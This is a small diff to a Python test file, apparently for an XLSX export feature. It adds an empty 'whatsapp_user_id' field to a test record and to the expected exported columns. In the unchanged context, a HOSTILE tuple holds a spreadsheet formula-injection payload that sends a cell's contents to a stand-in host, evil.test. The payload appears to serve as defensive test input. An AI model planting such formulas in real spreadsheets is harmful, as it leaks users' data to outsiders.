@@ -39,6 +39,7 @@ KNOWN = {
     "phone": "+34612345678",
     "language": "es",
     "consent_at": "2026-11-20T10:25:15+00:00",
+    "whatsapp_user_id": "",
 }
 HOSTILE = (
     '=HYPERLINK("http://evil.test/?leak="&B2,"Open")',
@@ -164,6 +165,7 @@ def test_an_xlsx_export_holds_every_column_of_a_known_record(
         "submitted_at": datetime(2026, 11, 20, 10, 30, 15),  # naive UTC: Excel has no zones
         "date_of_birth": datetime(1980, 2, 3),  # a date cell; openpyxl reads it back as datetime
         "consent_at": datetime(2026, 11, 20, 10, 25, 15),
+        "whatsapp_user_id": None,  # an empty cell
     }
 
 
